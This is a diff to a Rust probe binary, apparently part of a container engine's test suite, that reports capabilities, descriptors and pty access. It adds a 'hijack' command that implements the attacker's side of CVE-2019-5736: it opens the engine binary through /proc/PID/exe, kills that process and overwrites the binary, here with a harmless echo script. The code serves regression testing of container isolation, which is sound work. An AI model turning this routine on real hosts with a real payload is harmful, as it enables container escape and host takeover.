@@ -61,11 +61,15 @@ const FACTS: &[(&str, Reader)] = &[
     ("cgroup", cgroup),
     ("limits", limits),
     ("caps", caps),
+    ("capabilities", capabilities),
+    ("no_new_privs", no_new_privs),
+    ("fds", fds),
     ("cwd", cwd),
     ("env", env),
     ("sysv_shm", sysv_shm),
     ("zombies", zombies),
     ("cpus", cpus),
+    ("pty", pty),
 ];
 
 /// Loads for the limit tests of chapter 3: each takes a number.
@@ -83,11 +87,27 @@ type Action = fn(u64) -> Fact;
 /// `read PATH` is the one fact with an argument.
 const READ: &str = "read";
 
+/// Attempts that take a path, each printing `NAME PATH: ok` or the errno:
+/// - `write PATH`: open PATH for writing, *without* writing (so a test may
+///   ask whether `/proc/sys/...` is writable without changing the host);
+/// - `mount PATH`: mount a tmpfs on PATH (and unmount it again).
+const PATH_ACTIONS: &[(&str, PathAction)] = &[("write", open_for_writing), ("mount", mount_tmpfs)];
+
+/// What tries a path action: `Ok(())` or the errno's name.
+type PathAction = fn(&OsString) -> Result<(), String>;
+
+/// `hijack wait|now`: the attacker's half of CVE-2019-5736, for the tests
+/// that check the engine binary cannot be rewritten from a container (see
+/// [`hijack`]).
+const HIJACK: &str = "hijack";
+
 /// What the command line asked for.
 enum Request {
     Fact(&'static str, Reader),
     Read(OsString),
     Action(&'static str, Action, u64),
+    PathAction(&'static str, PathAction, OsString),
+    Hijack(bool),
 }
 
 fn main() -> ExitCode {
@@ -121,6 +141,14 @@ fn main() -> ExitCode {
                 Ok(lines) => lines,
                 Err(errno) => vec![format!("{name}: error {errno}")],
             },
+            Request::Hijack(wait) => hijack(wait, &mut out),
+            Request::PathAction(name, action, path) => {
+                let shown = path.to_string_lossy();
+                match action(&path) {
+                    Ok(()) => vec![format!("{name} {shown}: ok")],
+                    Err(errno) => vec![format!("{name} {shown}: {errno}")],
+                }
+            }
         };
         for line in lines {
             if writeln!(out, "{line}").is_err() {
@@ -143,6 +171,20 @@ fn parse(args: Vec<OsString>) -> Result<Vec<Request>, String> {
             requests.push(Request::Read(path));
             continue;
         }
+        if arg == HIJACK {
+            let wait = match args.next().as_ref().and_then(|a| a.to_str()) {
+                Some("exec") => true,
+                Some("init") => false,
+                _ => return Err("`hijack` needs `exec` or `init`".into()),
+            };
+            requests.push(Request::Hijack(wait));
+            continue;
+        }
+        if let Some(&(name, action)) = PATH_ACTIONS.iter().find(|(name, _)| arg == *name) {
+            let path = args.next().ok_or(format!("`{name}` needs a PATH"))?;
+            requests.push(Request::PathAction(name, action, path));
+            continue;
+        }
         if let Some(&(name, action)) = ACTIONS.iter().find(|(name, _)| arg == *name) {
             let n = args
                 .next()
@@ -163,7 +205,7 @@ fn parse(args: Vec<OsString>) -> Result<Vec<Request>, String> {
 fn usage() -> String {
     let names: Vec<&str> = FACTS.iter().map(|(name, _)| *name).collect();
     format!(
-        "usage: berth-probe FACT...\nknown facts: {} {READ} PATH hog MIB fork N spin MS",
+        "usage: berth-probe FACT...\nknown facts: {} {READ} PATH write PATH mount PATH hog MIB fork N spin MS {HIJACK} exec|init",
         names.join(" ")
     )
 }
@@ -393,6 +435,245 @@ fn caps() -> Fact {
     Ok(vec![format!("caps: eff={}", eff.trim())])
 }
 
+/// The kernel's capability names, by number (capabilities(7)).
+const CAPABILITY_NAMES: [&str; 41] = [
+    "CHOWN",
+    "DAC_OVERRIDE",
+    "DAC_READ_SEARCH",
+    "FOWNER",
+    "FSETID",
+    "KILL",
+    "SETGID",
+    "SETUID",
+    "SETPCAP",
+    "LINUX_IMMUTABLE",
+    "NET_BIND_SERVICE",
+    "NET_BROADCAST",
+    "NET_ADMIN",
+    "NET_RAW",
+    "IPC_LOCK",
+    "IPC_OWNER",
+    "SYS_MODULE",
+    "SYS_RAWIO",
+    "SYS_CHROOT",
+    "SYS_PTRACE",
+    "SYS_PACCT",
+    "SYS_ADMIN",
+    "SYS_BOOT",
+    "SYS_NICE",
+    "SYS_RESOURCE",
+    "SYS_TIME",
+    "SYS_TTY_CONFIG",
+    "MKNOD",
+    "LEASE",
+    "AUDIT_WRITE",
+    "AUDIT_CONTROL",
+    "SETFCAP",
+    "MAC_OVERRIDE",
+    "MAC_ADMIN",
+    "SYSLOG",
+    "WAKE_ALARM",
+    "BLOCK_SUSPEND",
+    "AUDIT_READ",
+    "PERFMON",
+    "BPF",
+    "CHECKPOINT_RESTORE",
+];
+
+/// `capabilities: SET NAMES` for each of the five sets of
+/// /proc/self/status (bnd, prm, eff, inh, amb), names comma-separated
+/// without `CAP_` (`none` for an empty set, `cap41` past the known names).
+fn capabilities() -> Fact {
+    let status = read_text("/proc/self/status")?;
+    let mut lines = Vec::new();
+    for (label, field) in [
+        ("bnd", "CapBnd:"),
+        ("prm", "CapPrm:"),
+        ("eff", "CapEff:"),
+        ("inh", "CapInh:"),
+        ("amb", "CapAmb:"),
+    ] {
+        let bits = status
+            .lines()
+            .find_map(|line| line.strip_prefix(field))
+            .and_then(|hex| u64::from_str_radix(hex.trim(), 16).ok())
+            .ok_or("ENODATA")?;
+        let names: Vec<String> = (0..64)
+            .filter(|n| bits & (1u64 << n) != 0)
+            .map(|n| match CAPABILITY_NAMES.get(n) {
+                Some(name) => name.to_string(),
+                None => format!("cap{n}"),
+            })
+            .collect();
+        let names = if names.is_empty() {
+            "none".to_string()
+        } else {
+            names.join(",")
+        };
+        lines.push(format!("capabilities: {label} {names}"));
+    }
+    Ok(lines)
+}
+
+/// `no_new_privs: 0|1`, from prctl(PR_GET_NO_NEW_PRIVS).
+fn no_new_privs() -> Fact {
+    let set = nix::sys::prctl::get_no_new_privs().map_err(|e| format!("{e:?}"))?;
+    Ok(vec![format!("no_new_privs: {}", u8::from(set))])
+}
+
+/// `fds: 0 1 2`: the descriptors this process was started with (those in
+/// /proc/self/fd, less the one the listing itself uses).
+fn fds() -> Fact {
+    let dir = fs::read_dir("/proc/self/fd").map_err(|e| errno_name(&e))?;
+    let mut fds: Vec<i32> = dir
+        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok())
+        .collect();
+    fds.sort_unstable();
+    // The highest is read_dir's own descriptor (opened last): drop it if it
+    // no longer exists.
+    // SAFETY: F_GETFD only reads a descriptor's flags; on a number that is
+    // not open it fails with EBADF.
+    fds.retain(|fd| unsafe { nix::libc::fcntl(*fd, nix::libc::F_GETFD) } >= 0);
+    let list: Vec<String> = fds.iter().map(i32::to_string).collect();
+    Ok(vec![format!("fds: {}", list.join(" "))])
+}
+
+fn open_for_writing(path: &OsString) -> Result<(), String> {
+    fs::OpenOptions::new()
+        .write(true)
+        .open(path)
+        .map(drop)
+        .map_err(|e| errno_name(&e))
+}
+
+fn mount_tmpfs(path: &OsString) -> Result<(), String> {
+    use nix::mount::{MsFlags, mount, umount};
+    let path = std::path::Path::new(path);
+    mount(
+        Some("tmpfs"),
+        path,
+        Some("tmpfs"),
+        MsFlags::empty(),
+        None::<&str>,
+    )
+    .map_err(|e| format!("{e:?}"))?;
+    let _ = umount(path);
+    Ok(())
+}
+
+/// What the container would write over the engine binary: a script that,
+/// run on the host, would say so.
+const PAYLOAD: &[u8] = b"#!/bin/sh\necho PWNED-BY-THE-CONTAINER\n";
+
+/// The attacker's half of CVE-2019-5736: get a descriptor of the engine
+/// binary from `/proc/PID/exe`, and write [`PAYLOAD`] through it.
+///
+/// - `hijack exec`: print `hijack: ready`; wait (10 s at most) for a
+///   process of this container whose `argv[0]` is `/proc/self/exe` (a
+///   script `#!/proc/self/exe` made the kernel run the engine binary as the
+///   container's process, which only the engine's own `exec` child can do);
+///   open its exe, kill it, and retry the write for 10 s while the answer
+///   is ETXTBSY (until the engine that ran it has exited).
+/// - `hijack init`: the engine's copy that runs as the container's PID 1
+///   (our init): open `/proc/1/exe` and try the write once.
+///
+/// Prints `hijack: holding` and `hijack: handle sealed|read-only|writable`
+/// once it has a descriptor (`O_PATH`), then `hijack: wrote` or
+/// `hijack: ERRNO` (`hijack: no target` if none turned up).
+fn hijack(exec: bool, out: &mut impl Write) -> Vec<String> {
+    use std::os::fd::AsRawFd;
+    use std::time::{Duration, Instant};
+    let open_exe = |pid: u32| {
+        nix::fcntl::open(
+            format!("/proc/{pid}/exe").as_str(),
+            nix::fcntl::OFlag::O_PATH | nix::fcntl::OFlag::O_CLOEXEC,
+            nix::sys::stat::Mode::empty(),
+        )
+    };
+    let _ = writeln!(out, "hijack: ready");
+    let _ = out.flush();
+    let (target, exe) = if exec {
+        let me = std::process::id();
+        let deadline = Instant::now() + Duration::from_secs(10);
+        loop {
+            if Instant::now() > deadline {
+                return vec!["hijack: no target".into()];
+            }
+            let found = proc_pids().unwrap_or_default().into_iter().find_map(|pid| {
+                if pid == me || pid == 1 {
+                    return None;
+                }
+                let cmdline = fs::read(format!("/proc/{pid}/cmdline")).ok()?;
+                if !cmdline.starts_with(b"/proc/self/exe\0") {
+                    return None;
+                }
+                Some((pid, open_exe(pid).ok()?))
+            });
+            if let Some(found) = found {
+                break found;
+            }
+            std::thread::sleep(Duration::from_micros(200));
+        }
+    } else {
+        match open_exe(1) {
+            Ok(exe) => (1, exe),
+            Err(errno) => return vec![format!("hijack: {errno:?}")],
+        }
+    };
+    let _ = writeln!(out, "hijack: holding");
+    let _ = writeln!(out, "hijack: handle {}", handle_kind(&exe));
+    let _ = out.flush();
+    if exec {
+        // Let the engine that ran it exit, so that its binary is not busy.
+        let _ = nix::sys::signal::kill(
+            nix::unistd::Pid::from_raw(target as i32),
+            nix::sys::signal::Signal::SIGKILL,
+        );
+    }
+    let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let opened = fs::OpenOptions::new()
+            .write(true)
+            .truncate(true)
+            .open(&path);
+        let result = opened.and_then(|mut file| file.write_all(PAYLOAD));
+        match result {
+            Ok(()) => return vec!["hijack: wrote".into()],
+            Err(e)
+                if exec
+                    && e.raw_os_error() == Some(nix::libc::ETXTBSY)
+                    && Instant::now() < deadline =>
+            {
+                std::thread::sleep(Duration::from_millis(20));
+            }
+            Err(e) => return vec![format!("hijack: {}", errno_name(&e))],
+        }
+    }
+}
+
+/// What an `O_PATH` descriptor of a program points at: `sealed` (a memfd
+/// sealed against writes), `read-only` (a file on a read-only mount) or
+/// `writable`.
+fn handle_kind(exe: &std::os::fd::OwnedFd) -> &'static str {
+    use nix::fcntl::{FcntlArg, OFlag, SealFlag, fcntl};
+    use std::os::fd::AsFd;
+    let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(exe));
+    if let Ok(file) = nix::fcntl::open(
+        path.as_str(),
+        OFlag::O_RDONLY | OFlag::O_CLOEXEC,
+        nix::sys::stat::Mode::empty(),
+    ) && let Ok(seals) = fcntl(file.as_fd(), FcntlArg::F_GET_SEALS)
+        && SealFlag::from_bits_truncate(seals).contains(SealFlag::F_SEAL_WRITE)
+    {
+        return "sealed";
+    }
+    match nix::sys::statvfs::fstatvfs(exe.as_fd()) {
+        Ok(st) if st.flags().contains(nix::sys::statvfs::FsFlags::ST_RDONLY) => "read-only",
+        _ => "writable",
+    }
+}
+
 fn cwd() -> Fact {
     let dir = std::env::current_dir().map_err(|e| errno_name(&e))?;
     Ok(vec![format!("cwd: {}", dir.display())])
@@ -476,6 +757,21 @@ fn read(path: &OsString) -> String {
         }
         Err(e) => format!("read {shown}: {}", errno_name(&e)),
     }
+}
+
+/// `pty: /dev/pts/0`: a new pseudo-terminal pair, both ends opened (what
+/// a terminal program or `docker exec -t` needs: /dev/ptmx and a pts).
+fn pty() -> Fact {
+    use nix::fcntl::OFlag;
+    use nix::pty::{grantpt, posix_openpt, ptsname_r, unlockpt};
+    let errno = |e: Errno| format!("{e:?}");
+    let master = posix_openpt(OFlag::O_RDWR | OFlag::O_NOCTTY).map_err(errno)?;
+    grantpt(&master).map_err(errno)?;
+    unlockpt(&master).map_err(errno)?;
+    let name = ptsname_r(&master).map_err(errno)?;
+    let opened = fs::OpenOptions::new().read(true).write(true).open(&name);
+    opened.map_err(|e| format!("{name} {}", errno_name(&e)))?;
+    Ok(vec![format!("pty: {name}")])
 }
 
 /// `cpus: 0-1`: the CPUs this process may run on (Cpus_allowed_list).
